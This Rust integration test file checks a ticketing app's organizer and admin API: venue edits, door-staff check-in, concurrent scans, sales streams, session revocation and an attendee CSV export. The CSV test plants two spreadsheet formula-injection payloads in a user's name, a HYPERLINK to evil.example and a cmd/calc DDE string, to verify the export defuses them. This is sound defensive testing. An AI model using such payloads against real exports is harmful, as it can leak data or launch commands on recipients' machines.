//! The organizer's and admin's API, as the web app's organizer pages use it: editing venues
//! (and the lock a publication puts on their seats), door staff and the door (check-in for one
//! event, at once from two doors), the sales figures with their activity and their stream, the
//! attendees' CSV, and finding accounts and ending their sessions.

use std::time::Duration;

use futures::StreamExt as _;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::bookings::{category, id};
use crate::events::event_body;
use crate::helpers::{assert_problem, Backend, TestApp};
use crate::on_both_backends;

on_both_backends!(
    a_venue_is_edited_until_an_event_sells_its_seats_then_only_its_drawing_changes,
    door_staff_check_in_for_their_event_and_nothing_else,
    two_doors_scanning_one_ticket_at_once_admit_it_once,
    the_attendees_csv_lists_the_events_confirmed_tickets_and_defuses_formulas,
    the_sales_figures_count_holds_and_sales_per_minute_and_stream_live,
    an_admin_finds_accounts_by_email_and_ends_one_of_their_sessions,
);

impl TestApp {
    async fn put(&self, path: &str, body: Value, token: &str) -> reqwest::Response {
        self.request(Method::PUT, path).bearer_auth(token).json(&body).send().await.unwrap()
    }

    async fn delete(&self, path: &str, token: &str) -> reqwest::Response {
        self.request(Method::DELETE, path).bearer_auth(token).send().await.unwrap()
    }

    /// A confirmed booking of `seats` (or one standing ticket when empty) for `buyer`.
    async fn bought(&self, buyer: &str, event: &Value, seats: &[&str]) -> Value {
        let body = if seats.is_empty() {
            json!({"event_id": id(event), "items": [{"category_id": category(event, 1), "quantity": 1}]})
        } else {
            json!({"event_id": id(event), "seats": seats})
        };
        let booking = self.hold_ok(buyer, body).await;
        let response = self.confirm(buyer, &id(&booking), "tok_ok").await;
        assert_eq!(response.status(), StatusCode::OK);
        response.json().await.unwrap()
    }
}

fn venue(name: &str, sections: Value) -> Value {
    json!({"name": name, "city": "Lyon", "address": "1 place Bellecour", "sections": sections})
}

/// A published event of `organizer` in a new venue of one section `Floor` of 2 rows of 6, with a
/// seated and a standing category.
pub(crate) async fn seated_event(app: &TestApp, organizer: &str, name: &str) -> Value {
    let venue = app
        .create_venue(
            organizer,
            json!([{"name": "Floor", "rows": [{"label": "A", "seats": 6}, {"label": "B", "seats": 6}]}]),
        )
        .await;
    let mut body = event_body(name, "2030-05-01T20:00:00Z");
    body["venue_id"] = venue["id"].clone();
    body["categories"] = json!([
        {"name": "Seats", "price_cents": 4500, "currency": "EUR", "sections": ["Floor"]},
        {"name": "Standing", "price_cents": 2000, "currency": "EUR", "capacity": 20},
    ]);
    let event = app.create_event(organizer, body).await;
    app.publish(organizer, &id(&event)).await
}

async fn a_venue_is_edited_until_an_event_sells_its_seats_then_only_its_drawing_changes(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, organizer) = app.user_with_role("organizer").await;
    let (_, rival) = app.user_with_role("organizer").await;
    let (_, customer) = app.customer().await;
    let floor = json!([{"name": "Floor", "rows": [{"label": "A", "seats": 4}]}]);
    let hall = app.create_venue(&organizer.access, floor.clone()).await;
    let path = format!("/api/v1/venues/{}", id(&hall));

    // Free to change while no event sells it: seats, shape, name.
    let bigger = json!([{"name": "Floor", "rows": [{"label": "A", "seats": 6}, {"label": "B", "seats": 6}],
        "x": 0, "y": 5, "curve": 40, "numbering": "right_to_left", "seat_spacing": 150, "row_spacing": 80}]);
    let response = app.put(&path, venue("Grand Hall", bigger.clone()), &organizer.access).await;
    assert_eq!(response.status(), StatusCode::OK);
    let changed: Value = response.json().await.unwrap();
    assert_eq!((changed["name"].as_str(), changed["capacity"].as_u64()), (Some("Grand Hall"), Some(12)));
    assert_eq!(changed["sections"][0]["numbering"], "right_to_left");
    assert_eq!(
        (changed["sections"][0]["seat_spacing"].as_u64(), changed["seats_locked"].as_bool()),
        (Some(150), Some(false))
    );
    assert_eq!(
        app.get(&path, None).await.json::<Value>().await.unwrap()["seats"].as_array().unwrap().len(),
        12
    );

    // Only its organizer: another organizer's edit names nothing; a customer is refused.
    assert_problem(
        app.put(&path, venue("Mine", floor.clone()), &rival.access).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    assert_problem(
        app.put(&path, venue("Mine", floor.clone()), &customer.access).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let mine: Value = app.get("/api/v1/venues", Some(&organizer.access)).await.json().await.unwrap();
    assert_eq!(mine["items"].as_array().unwrap().len(), 1);
    assert_eq!(mine["items"][0]["capacity"], 12);
    let theirs: Value = app.get("/api/v1/venues", Some(&rival.access)).await.json().await.unwrap();
    assert_eq!(theirs["items"], json!([]));
    assert_problem(
        app.get("/api/v1/venues", Some(&customer.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;

    // Bad input names its field.
    for (sections, field) in [
        (
            json!([{"name": "Floor", "rows": [{"label": "A", "seats": 4}], "numbering": "upwards"}]),
            "sections[0].numbering: ",
        ),
        (
            json!([{"name": "Floor", "rows": [{"label": "A", "seats": 4}], "seat_spacing": 20}]),
            "sections[0].seat_spacing: ",
        ),
        (json!([{"name": "Floor", "rows": []}]), "sections[0].rows: "),
        (
            json!([{"name": "Floor", "rows": [{"label": "A", "seats": 1}]}, {"name": "floor", "rows": [{"label": "A", "seats": 1}]}]),
            "sections[1].name: ",
        ),
    ] {
        let problem = assert_problem(
            app.put(&path, venue("X", sections), &organizer.access).await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        assert!(problem["detail"].as_str().unwrap().starts_with(field), "{problem}");
    }

    // A draft in the venue does not lock it; its seated category follows the venue's seats.
    let mut body = event_body("Draft", "2030-05-01T20:00:00Z");
    body["venue_id"] = hall["id"].clone();
    body["categories"] =
        json!([{"name": "Seats", "price_cents": 4500, "currency": "EUR", "sections": ["Floor"]}]);
    let draft = app.create_event(&organizer.access, body).await;
    let three_rows = json!([{"name": "Floor", "rows": [{"label": "A", "seats": 6}, {"label": "B", "seats": 6}, {"label": "C", "seats": 8}]}]);
    assert_eq!(
        app.put(&path, venue("Grand Hall", three_rows.clone()), &organizer.access).await.status(),
        StatusCode::OK
    );
    let followed: Value = app
        .get(&format!("/api/v1/events/{}", id(&draft)), Some(&organizer.access))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(followed["categories"][0]["capacity"], 20, "the draft counts the venue's new seats");
    let published = app.publish(&organizer.access, &id(&draft)).await;
    assert_eq!(
        published["categories"][0]["capacity"], 20,
        "published with the venue's seats as they are now"
    );
    let availability: Value =
        app.get(&format!("/api/v1/events/{}/availability", id(&draft)), None).await.json().await.unwrap();
    assert_eq!(availability["seats"].as_array().unwrap().len(), 20);

    // Published: the seats are locked, the drawing is not.
    let refused = app.put(&path, venue("Grand Hall", bigger), &organizer.access).await;
    let problem = assert_problem(refused, StatusCode::CONFLICT, "conflict").await;
    assert!(problem["detail"].as_str().unwrap().starts_with("sections: "), "{problem}");
    assert!(
        problem["detail"].as_str().unwrap().contains("Draft"),
        "names the event that sells them: {problem}"
    );
    let mut flipped = three_rows.clone();
    flipped[0]["numbering"] = json!("right_to_left");
    let refused = app.put(&path, venue("Grand Hall", flipped), &organizer.access).await;
    assert_problem(refused, StatusCode::CONFLICT, "conflict").await;
    let mut turned = three_rows.clone();
    turned[0]["rotation"] = json!(-20);
    turned[0]["x"] = json!(3);
    turned[0]["y"] = json!(4);
    let response = app.put(&path, venue("Grand Hall (renamed)", turned), &organizer.access).await;
    assert_eq!(response.status(), StatusCode::OK);
    let locked: Value = response.json().await.unwrap();
    assert_eq!(
        (locked["seats_locked"].as_bool(), locked["sections"][0]["rotation"].as_i64()),
        (Some(true), Some(-20))
    );
}

async fn door_staff_check_in_for_their_event_and_nothing_else(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, organizer) = app.user_with_role("organizer").await;
    let (_, buyer) = app.customer().await;
    let (staff_email, staff) = app.customer().await;
    let gig = seated_event(&app, &organizer.access, "Gig").await;
    let other = seated_event(&app, &organizer.access, "Other Gig").await;
    let gig_ticket = app.bought(&buyer.access, &gig, &["Floor/A/1"]).await["tickets"][0]["code"]
        .as_str()
        .unwrap()
        .to_owned();
    let other_ticket = app.bought(&buyer.access, &other, &["Floor/A/1"]).await["tickets"][0]["code"]
        .as_str()
        .unwrap()
        .to_owned();
    let checkin = |code: &str, event: &Value| json!({"code": code, "event_id": id(event)});

    // Before the grant, the staff account is a customer like any other.
    assert_problem(
        app.post("/api/v1/checkin", checkin(&gig_ticket, &gig), Some(&staff.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let grants = format!("/api/v1/events/{}/staff", id(&gig));
    assert_problem(
        app.post(&grants, json!({"email": "nobody@example.com"}), Some(&organizer.access)).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    let malformed = app.post(&grants, json!({"email": "not an email"}), Some(&organizer.access)).await;
    let problem = assert_problem(malformed, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
    assert!(!problem["detail"].as_str().unwrap().contains("no account"), "{problem}");
    assert_problem(
        app.post(&grants, json!({"email": staff_email}), Some(&buyer.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    let granted: Value = app
        .post(&grants, json!({"email": staff_email.to_uppercase()}), Some(&organizer.access))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(granted["items"][0]["email"], staff_email);
    let again: Value =
        app.post(&grants, json!({"email": staff_email}), Some(&organizer.access)).await.json().await.unwrap();
    assert_eq!(again["items"].as_array().unwrap().len(), 1, "granting twice changes nothing");

    // The door of their event: admit once, then "already", another event's ticket, a forgery.
    let door = format!("/api/v1/events/{}/door", id(&gig));
    assert_eq!(
        app.get(&door, Some(&staff.access)).await.json::<Value>().await.unwrap(),
        json!({"event_id": id(&gig), "checked_in": 0, "tickets": 1})
    );
    let admitted = app.post("/api/v1/checkin", checkin(&gig_ticket, &gig), Some(&staff.access)).await;
    assert_eq!(admitted.status(), StatusCode::OK);
    assert_eq!(admitted.json::<Value>().await.unwrap()["seat"], "Floor/A/1");
    assert_problem(
        app.post("/api/v1/checkin", checkin(&gig_ticket, &gig), Some(&staff.access)).await,
        StatusCode::CONFLICT,
        "already_checked_in",
    )
    .await;
    assert_problem(
        app.post("/api/v1/checkin", checkin(&other_ticket, &gig), Some(&staff.access)).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "wrong_event",
    )
    .await;
    let mut forged = gig_ticket.clone();
    forged.pop();
    forged.push(if gig_ticket.ends_with('A') { 'B' } else { 'A' });
    assert_problem(
        app.post("/api/v1/checkin", checkin(&forged, &gig), Some(&staff.access)).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert_eq!(app.get(&door, Some(&staff.access)).await.json::<Value>().await.unwrap()["checked_in"], 1);

    // And nothing else: not another event's door, not the organizer's views or changes.
    assert_problem(
        app.post("/api/v1/checkin", checkin(&other_ticket, &other), Some(&staff.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert_problem(
        app.post("/api/v1/checkin", json!({"code": other_ticket}), Some(&staff.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert_problem(
        app.get(&format!("/api/v1/events/{}/door", id(&other)), Some(&staff.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    for path in ["stats", "bookings", "attendees.csv"] {
        let response = app.get(&format!("/api/v1/events/{}/{path}", id(&gig)), Some(&staff.access)).await;
        assert_problem(response, StatusCode::FORBIDDEN, "forbidden").await;
    }
    assert_problem(app.get(&grants, Some(&staff.access)).await, StatusCode::FORBIDDEN, "forbidden").await;
    assert_problem(
        app.patch(&format!("/api/v1/events/{}", id(&gig)), json!({"name": "Mine"}), &staff.access).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;

    // Revoked: the next scan is refused.
    let staff_id = granted["items"][0]["user_id"].as_str().unwrap();
    let revoked: Value =
        app.delete(&format!("{grants}/{staff_id}"), &organizer.access).await.json().await.unwrap();
    assert_eq!(revoked["items"], json!([]));
    assert_problem(app.get(&door, Some(&staff.access)).await, StatusCode::FORBIDDEN, "forbidden").await;
    assert_problem(
        app.delete(&format!("{grants}/{staff_id}"), &organizer.access).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    assert_problem(
        app.delete(&format!("{grants}/not-an-id"), &organizer.access).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
}

async fn two_doors_scanning_one_ticket_at_once_admit_it_once(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, organizer) = app.user_with_role("organizer").await;
    let (_, buyer) = app.customer().await;
    let gig = seated_event(&app, &organizer.access, "Gig").await;
    let booking = app
        .bought(&buyer.access, &gig, &["Floor/A/1", "Floor/A/2", "Floor/A/3", "Floor/A/4", "Floor/A/5"])
        .await;
    for ticket in booking["tickets"].as_array().unwrap() {
        let body = json!({"code": ticket["code"], "event_id": id(&gig)});
        let doors = (0..4).map(|_| app.post("/api/v1/checkin", body.clone(), Some(&organizer.access)));
        let statuses: Vec<StatusCode> =
            futures::future::join_all(doors).await.iter().map(|r| r.status()).collect();
        assert_eq!(statuses.iter().filter(|s| **s == StatusCode::OK).count(), 1, "{statuses:?}");
        assert_eq!(statuses.iter().filter(|s| **s == StatusCode::CONFLICT).count(), 3, "{statuses:?}");
    }
}

async fn the_attendees_csv_lists_the_events_confirmed_tickets_and_defuses_formulas(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, organizer) = app.user_with_role("organizer").await;
    let (_, mallory) = app.customer().await;
    let (_, ada) = app.customer().await;
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let renamed = app
        .patch(
            "/api/v1/users/me",
            json!({"first_name": payload, "last_name": "+cmd|' /C calc'!A0"}),
            &mallory.access,
        )
        .await;
    assert_eq!(renamed.status(), StatusCode::OK);
    let gig = seated_event(&app, &organizer.access, "Gig").await;
    let other = seated_event(&app, &organizer.access, "Other Gig").await;
    let paid = app.bought(&mallory.access, &gig, &["Floor/A/1", "Floor/A/2"]).await;
    let standing = app.bought(&ada.access, &gig, &[]).await;
    let _pending = app.hold_ok(&ada.access, json!({"event_id": id(&gig), "seats": ["Floor/B/1"]})).await;
    let refunded = app.bought(&ada.access, &gig, &["Floor/B/2"]).await;
    app.post(&format!("/api/v1/bookings/{}/cancel", id(&refunded)), json!({}), Some(&ada.access)).await;
    let elsewhere = app.bought(&ada.access, &other, &["Floor/A/1"]).await;

    let response =
        app.get(&format!("/api/v1/events/{}/attendees.csv", id(&gig)), Some(&organizer.access)).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(response.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    let csv = response.text().await.unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines[0], "ticket_id,booking_id,category,seat,first_name,last_name,email,price,currency,booked_at,checked_in_at");
    let mut tickets: Vec<String> = paid["tickets"]
        .as_array()
        .unwrap()
        .iter()
        .chain(standing["tickets"].as_array().unwrap())
        .map(id)
        .collect();
    tickets.sort();
    let mut listed: Vec<String> =
        lines[1..].iter().map(|line| line.split(',').next().unwrap().to_owned()).collect();
    listed.sort();
    assert_eq!(listed, tickets, "every confirmed ticket of the event, and only those:\n{csv}");
    for foreign in [&refunded, &elsewhere] {
        assert!(!csv.contains(&id(foreign)), "{csv}");
    }
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), "{csv}");
    assert!(csv.contains("\"'+cmd|' /C calc'!A0\""), "{csv}");
    assert!(
        lines.iter().all(|line| !line.contains(",=") && !line.contains(",+")),
        "no cell starts a formula:\n{csv}"
    );
    assert!(csv.contains(",Floor/A/1,") && csv.contains(",45.00,EUR,"), "{csv}");
    assert!(
        !csv.contains(paid["tickets"][0]["code"].as_str().unwrap()),
        "codes admit their holder: never in the export"
    );
    let (_, rival) = app.user_with_role("organizer").await;
    let response = app.get(&format!("/api/v1/events/{}/attendees.csv", id(&gig)), Some(&rival.access)).await;
    assert_problem(response, StatusCode::FORBIDDEN, "forbidden").await;
}

async fn the_sales_figures_count_holds_and_sales_per_minute_and_stream_live(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, organizer) = app.user_with_role("organizer").await;
    let (_, buyer) = app.customer().await;
    let gig = seated_event(&app, &organizer.access, "Gig").await;
    let stream_path = format!("/api/v1/events/{}/stats/stream", id(&gig));
    assert_problem(app.get(&stream_path, Some(&buyer.access)).await, StatusCode::FORBIDDEN, "forbidden")
        .await;
    assert_problem(app.get(&stream_path, None).await, StatusCode::UNAUTHORIZED, "unauthorized").await;

    let stream = app.get(&stream_path, Some(&organizer.access)).await;
    assert_eq!(stream.status(), StatusCode::OK);
    assert!(stream.headers()["content-type"].to_str().unwrap().starts_with("text/event-stream"));
    let mut body = stream.bytes_stream();
    let first = next_stats(&mut body).await;
    assert_eq!((first["sold"].as_u64(), first["available"].as_u64()), (Some(0), Some(32)));
    assert_eq!(first["activity"]["holds"].as_array().unwrap().len(), 30);

    app.bought(&buyer.access, &gig, &["Floor/A/3", "Floor/A/4"]).await;
    app.hold_ok(&buyer.access, json!({"event_id": id(&gig), "seats": ["Floor/B/1"]})).await;
    let live = loop {
        let stats = next_stats(&mut body).await;
        if stats["held"] == 1 && stats["sold"] == 2 {
            break stats;
        }
    };
    assert_eq!(live["revenue_cents"], 9000);
    assert_eq!(live["categories"][0]["sold"], 2);
    let holds: u64 = live["activity"]["holds"].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).sum();
    let sales: u64 = live["activity"]["sales"].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).sum();
    assert_eq!((holds, sales), (2, 1), "two bookings made, one confirmed, this minute");

    // A session that ends ends its open stream.
    let logout = app.post("/api/v1/auth/logout", json!({}), Some(&organizer.access)).await;
    assert_eq!(logout.status(), StatusCode::NO_CONTENT);
    let ended =
        tokio::time::timeout(Duration::from_secs(10), async { while let Some(Ok(_)) = body.next().await {} })
            .await;
    assert!(ended.is_ok(), "the stream of a logged-out session ends");
}

async fn next_stats<S, B>(body: &mut S) -> Value
where
    S: futures::Stream<Item = reqwest::Result<B>> + Unpin,
    B: AsRef<[u8]>,
{
    let mut text = String::new();
    loop {
        let chunk =
            tokio::time::timeout(Duration::from_secs(10), body.next()).await.expect("a stats event in time");
        text.push_str(std::str::from_utf8(chunk.unwrap().unwrap().as_ref()).unwrap());
        if let Some(end) = text.find("\n\n") {
            let frame = &text[..end];
            if let Some(data) = frame.lines().find_map(|line| line.strip_prefix("data: ")) {
                assert!(frame.contains("event: stats"), "{frame}");
                return serde_json::from_str(data).unwrap();
            }
            text = text[end + 2..].to_owned();
        }
    }
}

async fn an_admin_finds_accounts_by_email_and_ends_one_of_their_sessions(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, admin) = app.user_with_role("admin").await;
    let (email, customer) = app.customer().await;
    let second = app.tokens(&email).await;
    let part = &email[9..20];

    let found: Value = app
        .get(&format!("/api/v1/users?email={}", part.to_uppercase()), Some(&admin.access))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(found["items"].as_array().unwrap().len(), 1, "{found}");
    assert_eq!(found["items"][0]["email"], email);
    let user_id = id(&found["items"][0]);
    let everyone: Value = app.get("/api/v1/users?limit=1", Some(&admin.access)).await.json().await.unwrap();
    assert!(everyone["next_cursor"].is_string(), "{everyone}");
    let wildcard: Value = app.get("/api/v1/users?email=%25", Some(&admin.access)).await.json().await.unwrap();
    assert_eq!(wildcard["items"], json!([]), "`%` is a character, not a wildcard");
    assert_problem(
        app.get("/api/v1/users?email=x", Some(&customer.access)).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    for garbage in ["AAAA", "eyJ4IjoxfQ", "%F0"] {
        let response = app.get(&format!("/api/v1/users?cursor={garbage}"), Some(&admin.access)).await;
        assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
    }
    let next = everyone["next_cursor"].as_str().unwrap();
    let second_page: Value = app
        .get(&format!("/api/v1/users?limit=1&cursor={next}"), Some(&admin.access))
        .await
        .json()
        .await
        .unwrap();
    assert_ne!(second_page["items"][0]["email"], everyone["items"][0]["email"]);

    let sessions_path = format!("/api/v1/users/{user_id}/sessions");
    let sessions: Value = app.get(&sessions_path, Some(&admin.access)).await.json().await.unwrap();
    let sessions = sessions["items"].as_array().unwrap().clone();
    assert_eq!(sessions.len(), 2);
    assert!(sessions.iter().all(|session| session["active"] == true && session["revoked_at"].is_null()));
    assert_problem(app.get(&sessions_path, Some(&customer.access)).await, StatusCode::FORBIDDEN, "forbidden")
        .await;

    // The newest session is the second login: ending it leaves the first one working.
    let newest = id(&sessions[0]);
    let response = app.delete(&format!("{sessions_path}/{newest}"), &admin.access).await;
    assert_eq!(response.status(), StatusCode::NO_CONTENT);
    app.assert_token_refused(&second.access).await;
    let refresh = app.post("/api/v1/auth/refresh", json!({"refresh_token": second.refresh}), None).await;
    assert_problem(refresh, StatusCode::UNAUTHORIZED, "unauthorized").await;
    assert_eq!(app.me(&customer.access).await["email"], email);
    let after: Value = app.get(&sessions_path, Some(&admin.access)).await.json().await.unwrap();
    // The session still in use is listed first, the ended one after it.
    assert_eq!(
        (after["items"][0]["active"].as_bool(), after["items"][1]["active"].as_bool()),
        (Some(true), Some(false))
    );
    assert_eq!(after["items"][1]["id"], newest.as_str());
    assert!(after["items"][1]["revoked_at"].is_string());
    assert_problem(
        app.delete(&format!("{sessions_path}/{}", uuid::Uuid::now_v7()), &admin.access).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    let stranger = format!("/api/v1/users/{}/sessions/{newest}", uuid::Uuid::now_v7());
    assert_problem(app.delete(&stranger, &admin.access).await, StatusCode::NOT_FOUND, "not_found").await;

    // Every session at once: the first login's too.
    assert_eq!(app.delete(&sessions_path, &admin.access).await.status(), StatusCode::NO_CONTENT);
    app.assert_token_refused(&customer.access).await;
    let ended: Value = app.get(&sessions_path, Some(&admin.access)).await.json().await.unwrap();
    assert!(ended["items"].as_array().unwrap().iter().all(|session| session["active"] == false), "{ended}");
}
